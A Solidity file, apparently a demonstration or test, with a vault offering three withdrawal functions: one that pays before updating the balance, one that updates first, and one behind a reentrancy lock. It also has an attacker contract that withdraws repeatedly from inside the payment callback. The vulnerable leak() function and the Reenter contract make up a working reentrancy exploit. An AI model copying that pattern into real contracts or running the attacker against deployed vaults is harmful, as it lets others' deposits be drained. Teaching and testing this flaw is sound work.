// SPDX-License-Identifier: UNLICENSED
pragma solidity ^0.8.24;

/// A vault that pays before it books (leak), one that books first (safe), and one with a lock (locked).
contract Vault {
    mapping(address => uint256) public deposits;
    uint256 private entered;

    error Nothing();
    error Entered();
    error PaymentFailed();

    function deposit() external payable {
        deposits[msg.sender] += msg.value;
    }

    function leak() external {
        uint256 amount = deposits[msg.sender];
        if (amount == 0 || amount > address(this).balance) revert Nothing();
        send(amount);
        deposits[msg.sender] = 0;
    }

    function safe() external {
        uint256 amount = deposits[msg.sender];
        if (amount == 0) revert Nothing();
        deposits[msg.sender] = 0;
        send(amount);
    }

    function locked() external {
        if (entered != 0) revert Entered();
        entered = 1;
        uint256 amount = deposits[msg.sender];
        if (amount == 0) revert Nothing();
        send(amount);
        deposits[msg.sender] = 0;
        entered = 0;
    }

    function send(uint256 amount) private {
        (bool ok, ) = msg.sender.call{value: amount}("");
        if (!ok) revert PaymentFailed();
    }
}

/// Takes its deposit out of a vault again and again, from within the payment.
contract Reenter {
    Vault private immutable vault;
    bytes4 private call;
    uint256 private left;
    uint256 public taken; // payments that came in during the last attack
    uint256 public refused; // calls that the vault refused while it paid

    constructor(Vault vault_) {
        vault = vault_;
    }

    /// Deposits the value sent, then withdraws with the vault's function selector, times times on top of one another.
    function attack(bytes4 selector, uint256 times) external payable {
        call = selector;
        left = times;
        taken = 0;
        refused = 0;
        vault.deposit{value: msg.value}();
        again();
        left = 0;
    }

    receive() external payable {
        taken++;
        again();
    }

    function again() private {
        if (left == 0) return;
        left--;
        (bool ok, ) = address(vault).call(abi.encodeWithSelector(call));
        if (!ok) refused++;
    }
}
